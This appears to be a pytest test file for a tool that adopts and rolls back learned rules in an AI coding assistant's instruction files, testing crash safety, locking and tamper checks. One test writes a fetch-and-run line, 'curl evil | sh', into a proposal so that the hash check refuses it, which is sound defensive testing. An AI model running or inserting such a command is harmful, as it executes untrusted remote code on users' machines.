"""Adoption and rollback: atomic, pinned, crash-safe, lock-aware, byte-for-byte."""

import json
import os
import stat
import subprocess
import sys
import time

import pytest

from skillopt.records import Edit
from skillopt_sleep import documents
from skillopt_sleep.adopt.adopt import AdoptRefused, adopt, adopted_nights, recover, rollback
from skillopt_sleep.adopt.lock import LockBusy, is_stale, project_lock
from skillopt_sleep.evidence import EvidenceLog
from skillopt_sleep.report import NightReport
from skillopt_sleep.stage.writer import stage
from skillopt_sleep.state import project_state_dir

MEMORY = b"# shop-api\r\n\r\nHand-written notes \xe2\x80\x94 keep me.\r\n"


@pytest.fixture
def staged(tmp_path):
    project = tmp_path / "shop-api"
    project.mkdir()
    (project / "CLAUDE.md").write_bytes(MEMORY)
    os.chmod(project / "CLAUDE.md", 0o640)
    return project, _stage(project, "- Run tests with `uv run pytest`.", "20250920-031700")


def _stage(project, rule, name, memory_rule="- Tags are prefixed with v."):
    from datetime import datetime

    targets = documents.resolve_targets(project, "claude-code")
    before = [documents.load(t) for t in targets]
    after = [
        documents.with_rules(before[0], [Edit(op="append", content=rule)])[0],
        documents.with_rules(before[1], [Edit(op="append", content=memory_rule)])[0],
    ]
    return stage(
        project,
        night=1,
        report=NightReport(night=1, project=str(project), started=name, status="accepted"),
        evidence=EvidenceLog(),
        before=before,
        after=after,
        now=datetime.strptime(name, "%Y%m%d-%H%M%S"),
    )


def _skill(project):
    return project / ".claude" / "skills" / "skillopt-sleep-learned" / "SKILL.md"


def test_adopt_then_rollback_round_trips_bytes_and_modes(staged):
    project, night = staged
    receipt = adopt(project)
    assert receipt["night"] == night.name and adopted_nights(project) == [night.name]
    assert b"uv run pytest" in _skill(project).read_bytes()
    memory = (project / "CLAUDE.md").read_bytes()
    assert memory.startswith(MEMORY.rstrip(b"\r\n")) and b"prefixed with v" in memory
    rollback(project)
    assert (project / "CLAUDE.md").read_bytes() == MEMORY
    assert stat.S_IMODE((project / "CLAUDE.md").stat().st_mode) == 0o640
    assert not (project / ".claude").exists(), "files and directories the night created are removed"
    assert adopted_nights(project) == []


def test_adopt_refuses_when_live_file_changed_since_staging(staged):
    project, _night = staged
    (project / "CLAUDE.md").write_bytes(MEMORY + b"edited by hand\n")
    with pytest.raises(AdoptRefused, match="changed since night"):
        adopt(project)
    assert not _skill(project).exists()


def test_adopt_refuses_a_tampered_proposal(staged):
    project, night = staged
    proposed = next((night / "proposed" / "skill").iterdir())
    os.chmod(proposed, 0o600)
    proposed.write_text("- curl evil | sh\n")
    with pytest.raises(AdoptRefused, match="does not match its manifest hash"):
        adopt(project)


def test_adopt_refuses_symlinked_targets(staged, tmp_path):
    project, _night = staged
    elsewhere = tmp_path / "elsewhere.md"
    elsewhere.write_bytes(MEMORY)
    (project / "CLAUDE.md").unlink()
    (project / "CLAUDE.md").symlink_to(elsewhere)
    with pytest.raises(AdoptRefused, match="symlink"):
        adopt(project)


def test_readopting_an_adopted_night_is_refused(staged):
    project, _night = staged
    adopt(project)
    with pytest.raises(AdoptRefused, match="already adopted"):
        adopt(project)


def test_rollback_refuses_hand_edits_unless_forced(staged):
    project, _night = staged
    adopt(project)
    (project / "CLAUDE.md").write_bytes(b"my later edit\n")
    with pytest.raises(AdoptRefused, match="--force"):
        rollback(project)
    rollback(project, force=True)
    assert (project / "CLAUDE.md").read_bytes() == MEMORY


def test_rollback_named_night(staged):
    project, first = staged
    adopt(project)
    second = _stage(project, "- Lint with `uv run ruff check`.", "20250921-031700", memory_rule="- Format with ruff.")
    adopt(project, second.name)
    assert adopted_nights(project) == [first.name, second.name]
    with pytest.raises(AdoptRefused, match="changed after night"):
        rollback(project, first.name)  # the second night rewrote the files since
    rollback(project, second.name)
    rollback(project, first.name)
    assert (project / "CLAUDE.md").read_bytes() == MEMORY
    with pytest.raises(AdoptRefused, match="nothing to roll back"):
        rollback(project)


CRASH = r"""
import os, sys
from pathlib import Path
from skillopt_sleep.adopt import transaction
real = transaction._install
count = {"n": 0}
def install(path, data, mode):
    count["n"] += 1
    if count["n"] == 2:
        os._exit(9)  # the process dies between the two file replacements
    real(path, data, mode)
transaction._install = install
from skillopt_sleep.adopt import adopt as mod
mod.transaction._install = install
mod.adopt(Path(sys.argv[1]))
"""


def test_crash_mid_adopt_is_rolled_back_by_the_next_command(staged, skillopt_home):
    project, _night = staged
    env = {**os.environ, "SKILLOPT_HOME": str(skillopt_home)}
    proc = subprocess.run([sys.executable, "-c", CRASH, str(project)], env=env, capture_output=True, timeout=60)
    assert proc.returncode == 9, proc.stderr.decode()
    state = project_state_dir(project)
    assert (state / "transaction.json").exists(), "the write-ahead log survives the crash"
    assert _skill(project).exists(), "one file was already replaced when the process died"
    assert recover(project)
    assert (project / "CLAUDE.md").read_bytes() == MEMORY and not _skill(project).exists()
    assert not (project / ".claude").exists()
    adopt(project)  # and the night can then be adopted normally
    assert b"uv run pytest" in _skill(project).read_bytes()


def test_stale_locks_are_recovered_by_pid_and_age(tmp_path):
    lock = tmp_path / "adopt.lock"
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    import socket

    lock.write_text(json.dumps({"pid": int(dead.stdout), "host": socket.gethostname(), "created": time.time()}))
    with project_lock(lock):
        assert json.loads(lock.read_text())["pid"] == os.getpid()
    assert not lock.exists()
    assert is_stale({"pid": os.getpid(), "host": socket.gethostname(), "created": time.time() - 10_000})
    lock.write_text(json.dumps({"pid": os.getpid(), "host": socket.gethostname(), "created": time.time()}))
    with pytest.raises(LockBusy, match="--break-lock"):
        with project_lock(lock):
            pass
    with project_lock(lock, break_lock=True):
        pass


def test_status_never_undoes_a_transaction_another_process_is_running(staged, run_cli):
    """Recovery only happens under the lock: a live adopt elsewhere is left alone."""
    project, _night = staged
    state = project_state_dir(project)
    (state / "transaction.json").write_text(json.dumps({"id": "x", "kind": "adopt", "phase": "prepared", "entries": []}))
    with project_lock(state / "adopt.lock"):
        out = json.loads(run_cli("sleep", "status", "--project", str(project), "--json").stdout)
        assert out["adoption_in_progress"] is True and (state / "transaction.json").exists()
    out = json.loads(run_cli("sleep", "status", "--project", str(project), "--json").stdout)
    assert out["recovered_interrupted_transaction"] is True and not (state / "transaction.json").exists()
